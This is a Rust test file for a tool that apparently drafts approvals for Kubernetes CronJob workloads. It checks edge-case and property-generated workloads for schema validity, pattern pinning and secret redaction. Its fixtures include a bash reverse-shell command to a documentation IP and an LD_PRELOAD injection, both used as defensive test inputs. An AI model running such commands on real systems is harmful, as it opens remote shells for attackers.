//! Workloads that approvals can hardly express: the drafts must be accepted all the same, and approve nothing else.

use cronwarden::api::ApprovedCronJob;
use cronwarden::draft::{Options, approval, yaml};
use cronwarden::workload::{Workload, WorkloadKind};
use proptest::prelude::*;
use serde_json::{Value, json};

use super::{deviations, inventory, now, options, problems, schema};

fn cron_job(name: &str, pod: &Value) -> Workload {
    let manifest = json!({
        "metadata": { "name": name, "namespace": "payments" },
        "spec": { "schedule": "0 2 * * *", "jobTemplate": { "spec": { "template": { "spec": pod } } } },
    });
    Workload::from_json(WorkloadKind::CronJob, &manifest.to_string()).expect("a workload")
}

fn container(fields: &Value) -> Value {
    let mut container = json!({ "name": "main", "image": "registry.example.com/app:1" });
    for (name, value) in fields.as_object().expect("fields") {
        container[name] = value.clone();
    }
    json!({ "containers": [container] })
}

/// Workloads for each limit of an approval, one of them beyond it.
pub fn workloads() -> Vec<Workload> {
    let numbered = |count: usize, prefix: &str| (0..count).map(|i| format!("{prefix}{i}")).collect::<Vec<_>>();
    let many = |count: usize, make: &dyn Fn(usize) -> Value| (0..count).map(make).collect::<Vec<_>>();
    let args = |args: &Value| container(&json!({ "command": ["run"], "args": args }));
    let pods = [
        args(&json!(["*", "?", "a*b", "**"])),
        args(&json!(["**", "x"])),
        args(&json!(numbered(65, "a"))),
        args(&json!(["x".repeat(4097)])),
        args(&json!(["x".repeat(5000)])),
        args(&json!(["é".repeat(2500)])),
        container(&json!({ "command": ["sh", "-c", "y".repeat(1025)] })),
        container(&json!({ "command": numbered(70, "c") })),
        args(&json!([
            "--password",
            "hunter2-S3cr3t",
            "--url=postgres://u:hunter2-S3cr3t@db/x",
            "API_KEY=hunter2-S3cr3t"
        ])),
        args(&json!(["#!/bin/sh\nset -e\n\nexport PGPASSWORD=hunter2-S3cr3t\npg_dump\n"])),
        args(&json!(["#!/bin/sh\nset -e\n\n  indented\n\necho done\n"])),
        args(&json!([
            "a\tb\r\n",
            "\u{1b}[31m",
            "\u{202e}x",
            "\u{fffe}",
            "on",
            "0755",
            "1e3",
            "~",
            "",
            " a ",
            "- x",
            "k: v # c"
        ])),
        json!({ "containers": many(40, &|i| json!({ "name": format!("c{i}"), "image": "app:1", "command": [format!("run{i}")] })) }),
        json!({ "containers": many(40, &|i| json!({ "name": format!("c{i}"), "image": format!("app{i}:1") })) }),
        container(&json!({ "image": "Registry.Example.com/app:1" })),
        container(&json!({ "image": "[::1]:5000/app:1" })),
        container(&json!({ "image": format!("app@sha384:{}", "a".repeat(96)) })),
        container(&json!({ "image": format!("app:1@sha256:{}", "a".repeat(64)) })),
        container(&json!({ "envFrom": many(70, &|i| json!({ "secretRef": { "name": format!("s{i}") } })) })),
        container(&json!({ "envFrom": many(70, &|i| json!({ "configMapRef": { "name": format!("c{i}") } })) })),
        container(
            &json!({ "envFrom": [{ "secretRef": { "name": "Bad_Name*" } }, { "configMapRef": { "name": "" } }] }),
        ),
        container(&json!({ "envFrom": [{ "secretRef": { "name": "n".repeat(300) } }] })),
        {
            let mut pod = container(&json!({}));
            pod["volumes"] =
                json!(many(40, &|i| json!({ "name": format!("v{i}"), "hostPath": { "path": format!("/d/{i}") } })));
            pod
        },
        {
            let mut pod = container(&json!({}));
            let paths = ["/a**b", "/a/[b]{c}\\", "/a/../../b/", "/", "//x//y/", "/a/...", "/*", "/tab\there"];
            pod["volumes"] =
                json!(many(paths.len(), &|i| json!({ "name": format!("v{i}"), "hostPath": { "path": paths[i] } })));
            pod
        },
        {
            let mut pod = container(&json!({}));
            pod["serviceAccountName"] = json!("Odd_Account");
            pod
        },
        {
            let mut pod = container(
                &json!({ "volumeMounts": [{ "name": "v", "mountPath": "/usr/bin" }], "env": [{ "name": "LD_PRELOAD", "value": "/v/x.so" }] }),
            );
            pod["volumes"] = json!([{ "name": "v", "persistentVolumeClaim": { "claimName": "claim" } }]);
            pod
        },
        container(&json!({ "env": [{ "name": "X", "value": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1" }] })),
        container(&json!({ "command": ["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"] })),
        container(
            &json!({ "lifecycle": { "postStart": { "exec": { "command": ["a", "*", "--token", "hunter2-S3cr3t"] } } } }),
        ),
    ];
    pods.iter().enumerate().map(|(i, pod)| cron_job(&format!("odd-{i}"), pod)).collect()
}

#[test]
fn what_is_hard_to_express_is_accepted_and_satisfied() -> anyhow::Result<()> {
    let schema = jsonschema::validator_for(&schema())?;
    for workload in workloads() {
        for options in [options(true), options(false)] {
            let draft = approval(&workload, &options, now()).map_err(|refused| anyhow::anyhow!("{refused:?}"))?;
            assert_eq!(problems(&draft, &schema), Vec::<String>::new(), "{}", workload.key);
            assert_eq!(draft.left_out, [], "{}", workload.key);
            let deviations = deviations(&workload, &inventory([&draft.approval]));
            assert!(deviations.is_empty(), "{}: {deviations:?}", workload.key);
            let text = yaml(std::slice::from_ref(&draft));
            assert!(!text.contains("hunter2"), "{text}");
            assert_eq!(serde_saphyr::from_str::<ApprovedCronJob>(&text)?, draft.approval, "{text}");
        }
    }
    Ok(())
}

/// A wildcard where none was meant comes with the pinned template, so that nothing but this very workload is approved.
#[test]
fn whatever_is_looser_than_the_workload_is_pinned() -> anyhow::Result<()> {
    for workload in workloads() {
        let draft = approval(&workload, &options(false), now()).map_err(|refused| anyhow::anyhow!("{refused:?}"))?;
        let spec = draft.approval.spec;
        let patterns = serde_json::to_string(&(&spec.expected.images, &spec.expected.commands, &spec.allowed))?;
        let is_loose =
            patterns.contains(['*', '?']) || spec.expected.images.is_empty() || spec.expected.commands.is_empty();
        assert!(!is_loose || spec.expected.template_hash.is_some(), "{}: {patterns}", workload.key);
    }
    Ok(())
}

fn text() -> impl Strategy<Value = String> {
    prop_oneof![
        "[a-z*?./:-]{0,12}",
        "\\PC{0,20}",
        "[ \t\n\r#:'\"\\\\{}\\[\\]!&|>%@`-]{0,12}",
        "(y|n|yes|on|off|true|null|~|0x1f|0755|1e3|1_000|12:30:45|\\.inf|=|<<|2026-01-01)",
        "(--password|--token|[A-Z_]{1,8}=|-p)[A-Za-z0-9*?]{0,24}",
        "[ab \n]{0,30}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]

    #[test]
    fn any_workload_satisfies_its_draft_and_the_text_reads_back(
        command in proptest::collection::vec(text(), 0..4),
        args in proptest::collection::vec(text(), 0..6),
        secret in text(),
        host_path in text(),
        account in text(),
        capability in text(),
        value in text(),
        strict in any::<bool>(),
        careless in any::<bool>(),
    ) {
        let mut pod = container(&json!({
            "command": command, "args": args,
            "env": [{ "name": "V", "value": value }],
            "envFrom": [{ "secretRef": { "name": secret } }],
            "securityContext": { "capabilities": { "add": [capability] } },
        }));
        pod["serviceAccountName"] = json!(account);
        pod["volumes"] = json!([{ "name": "v", "hostPath": { "path": format!("/{host_path}") } }]);
        let workload = cron_job("any", &pod);
        let options = if careless { options(strict) } else { Options { strict, ..Options::default() } };
        let draft = approval(&workload, &options, now()).expect("a draft");
        let schema = jsonschema::validator_for(&schema()).expect("a schema");
        prop_assert_eq!(problems(&draft, &schema), Vec::<String>::new());
        let deviations = deviations(&workload, &inventory([&draft.approval]));
        prop_assert_eq!(deviations.is_empty(), draft.left_out.is_empty());
        // No approval can name a capability that is not written as one.
        let other: Vec<_> = draft.left_out.iter().filter(|left| left.field != "spec.allowed.capabilities").collect();
        prop_assert!(!careless || other.is_empty(), "{:?}", other);
        let text = yaml(std::slice::from_ref(&draft));
        let read: ApprovedCronJob = serde_saphyr::from_str(&text).expect("YAML");
        prop_assert_eq!(read, draft.approval);
    }
}
